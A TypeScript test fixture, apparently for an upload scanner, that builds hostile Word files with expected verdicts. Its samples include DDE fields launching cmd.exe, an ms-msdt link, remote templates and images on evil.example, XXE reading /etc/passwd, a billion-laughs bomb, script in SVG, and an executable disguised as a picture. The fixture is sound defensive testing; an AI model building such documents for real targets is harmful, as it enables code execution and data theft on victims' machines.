import { TEST_VIRUS } from '../../support/clamd.ts';
import { contentTypes, document, docxWith, MAIN, PACKAGE_RELS, PARAGRAPH, RELS, ROOT_RELS, W } from './docxWith.ts';
import { corpusOf, DECLARED } from './hostileFile.ts';
import { type ZipEntry, zipOf } from './zip.ts';

/** With one relationship that leads somewhere. */
const leadingTo = (type: string, target: string, mode = 'TargetMode="External"') =>
  docxWith({
    more: [
      {
        name: 'word/_rels/document.xml.rels',
        content: `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${PACKAGE_RELS}"><Relationship Id="r9" Type="${RELS}/${type}" Target="${target}" ${mode}/></Relationships>`,
      },
    ],
  });
const withEntry = (name: string, content: string | Buffer = 'x', more: Partial<ZipEntry> = {}) =>
  docxWith({ more: [{ name, content, ...more }] });

const field = (...pieces: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

const LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>';
const utf16 = (xml: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]);

/** Word documents that run, fetch or hide something, and archives that are none. */
export const HOSTILE_DOCUMENTS = corpusOf({ name: 'account.docx', declared: DECLARED.docx }, [
  { story: 'a document with macros', bytes: () => withEntry('word/vbaProject.bin'), fate: ['macros'] },
  {
    story: 'a document with macros under another name',
    bytes: () => withEntry('word/media/data.bin'),
    fate: ['macros'],
  },
  {
    story: 'a document that calls itself one with macros',
    bytes: () => docxWith({ types: contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml') }),
    fate: ['macros'],
  },
  {
    story: 'a template that calls itself a document',
    bytes: () => docxWith({ types: contentTypes('application/vnd.ms-word.template.macroEnabledTemplate.main+xml') }),
    fate: ['macros'],
  },
  { story: 'a document with a control in it', bytes: () => withEntry('word/activeX/activeX1.xml'), fate: ['macros'] },
  {
    story: 'a document that changes the buttons of Word',
    bytes: () => withEntry('customUI/customUI.xml'),
    fate: ['macros'],
  },
  {
    story: 'a document whose template lies elsewhere',
    bytes: () => leadingTo('attachedTemplate', 'https://evil.example/t.dotm'),
    fate: ['external'],
  },
  {
    story: 'a document that fetches a picture',
    bytes: () => leadingTo('image', 'https://evil.example/pixel.png'),
    fate: ['external'],
  },
  {
    story: 'a document that fetches an object',
    bytes: () => leadingTo('oleObject', 'https://evil.example/o'),
    fate: ['external'],
  },
  {
    story: 'a document that fetches a frame',
    bytes: () => leadingTo('frame', 'file:///etc/passwd'),
    fate: ['external'],
  },
  {
    story: 'a document with a link to a file',
    bytes: () => leadingTo('hyperlink', 'file:///C:/Windows/system32/calc.exe'),
    fate: ['external'],
  },
  {
    story: 'a document with a link to a share',
    bytes: () => leadingTo('hyperlink', '\\\\evil.example\\share'),
    fate: ['external'],
  },
  {
    story: 'a document with a link that starts a tool of the system',
    bytes: () => leadingTo('hyperlink', 'ms-msdt:/id PCWDiagnostic'),
    fate: ['external'],
  },
  {
    story: 'a document that writes its target in a way nobody reads',
    bytes: () => leadingTo('image', 'x', 'TargetMode=External'),
    fate: ['external'],
  },
  {
    story: 'a document that brings in a page of the web',
    bytes: () => leadingTo('aFChunk', '../page.xml', ''),
    fate: ['external'],
  },
  {
    story: 'a document with a field that starts a program, cut into pieces',
    bytes: () => docxWith({ document: document(field(' DDE', 'AUTO c:\\\\windows\\\\cmd.exe')) }),
    fate: ['external'],
  },
  {
    story: 'a document with a field that fetches a picture',
    bytes: () =>
      docxWith({
        document: document(
          '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE https://evil.example/x.png "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>',
        ),
      }),
    fate: ['external'],
  },
  {
    story: 'a document whose settings fetch a template, in another dialect',
    bytes: () =>
      docxWith({
        more: [
          {
            name: 'word/_rels/settings.xml.rels',
            content: `<?xml version="1.0"?><p:Relationships xmlns:p="${PACKAGE_RELS}"><p:Relationship Id='r1' TargetMode = 'External' Target='https&#58;//evil.example/t.dotm' Type='http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate'></p:Relationship></p:Relationships>`,
          },
        ],
      }),
    fate: ['external'],
  },
  {
    story: 'a document with another document in it',
    bytes: () => leadingTo('subDocument', 'more.xml', ''),
    fate: ['external'],
  },
  {
    story: 'a document with an object in it that calls itself a part of its own',
    bytes: () => leadingTo('oleObject', 'media/image1.png', ''),
    fate: ['external'],
  },
  {
    story: 'a document with a link that is a script',
    bytes: () => leadingTo('hyperlink', 'java&#115;cript:alert(1)'),
    fate: ['external'],
  },
  {
    story: 'a document with a page of the web that calls itself a drawing',
    bytes: () =>
      withEntry('word/media/image1.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    fate: { name: 'account.docx' },
  },
  {
    story: 'a document with a field in its head that starts a program',
    bytes: () => withEntry('word/header1.xml', `<?xml version="1.0"?><w:hdr ${W}>${field('DDE', ' cmd.exe')}</w:hdr>`),
    fate: ['external'],
  },
  {
    story: 'a document with a spreadsheet in it',
    bytes: () => withEntry('word/embeddings/Sheet1.xlsx'),
    fate: ['embedded'],
  },
  {
    story: 'a document with a program that calls itself a picture',
    bytes: () => withEntry('word/media/image1.png', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100)])),
    fate: ['embedded'],
  },
  {
    story: 'a document with an archive in it',
    bytes: () => withEntry('word/media/more.zip', zipOf([{ name: 'a', content: 'b' }])),
    fate: ['embedded'],
  },
  {
    story: 'a document with an archive in it that calls itself a picture',
    bytes: () =>
      withEntry('word/media/image1.png', zipOf([{ name: 'a', content: zipOf([{ name: 'b', content: 'c' }]) }])),
    fate: ['embedded'],
  },
  {
    story: 'a document with a page of the web in it',
    bytes: () => withEntry('word/page.html', '<script>alert(1)</script>'),
    fate: ['embedded'],
  },
  {
    story: 'a document of a kind of part nobody knows',
    bytes: () => withEntry('word/media/thing.xyz'),
    fate: ['not_what_it_says'],
  },
  {
    story: 'a document that reads a file of the server',
    bytes: () =>
      docxWith({
        document: `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document ${W}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>`,
      }),
    fate: ['not_what_it_says'],
  },
  {
    story: 'a document that laughs a billion times',
    bytes: () =>
      docxWith({
        document: `<?xml version="1.0"?>${LAUGHS}<w:document ${W}><w:body><w:p><w:r><w:t>&c;</w:t></w:r></w:p></w:body></w:document>`,
      }),
    fate: ['not_what_it_says'],
  },
  {
    story: 'a document in an encoding that hides its words',
    bytes: () => docxWith({ document: utf16(document(PARAGRAPH)) }),
    fate: ['not_what_it_says'],
  },
  {
    story: 'a document without a document',
    bytes: () => zipOf([{ name: '[Content_Types].xml', content: contentTypes(MAIN) }]),
    fate: ['not_what_it_says'],
  },
  {
    story: 'any archive at all',
    bytes: () => zipOf([{ name: 'run.js', content: 'alert(1)' }]),
    fate: ['not_what_it_says'],
  },
  {
    story: 'a document of the old kind',
    bytes: () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4000)]),
    fate: ['not_what_it_says'],
  },
  {
    story: 'a document that is a PDF too',
    bytes: () =>
      zipOf([
        { name: '%PDF-1.7.xml', content: '%PDF-1.7', isStored: true },
        { name: '[Content_Types].xml', content: contentTypes(MAIN) },
        { name: '_rels/.rels', content: ROOT_RELS },
        { name: 'word/document.xml', content: document(PARAGRAPH) },
      ]),
    fate: ['not_what_it_says'],
  },
  {
    story: 'a document cut off in the middle',
    bytes: () => docxWith().subarray(0, 400),
    fate: ['not_what_it_says', 'damaged'],
  },
  {
    story: 'a document of tags in tags without end',
    bytes: () => docxWith({ document: document('<w:p>'.repeat(200_000)) }),
    fate: ['damaged', 'takes_too_long'],
  },
  {
    story: 'a document with a known virus in its words',
    bytes: () => docxWith({ document: document(`<w:p><w:r><w:t>${TEST_VIRUS}</w:t></w:r></w:p>`) }),
    fate: ['infected'],
    needsScanner: true,
  },
]);
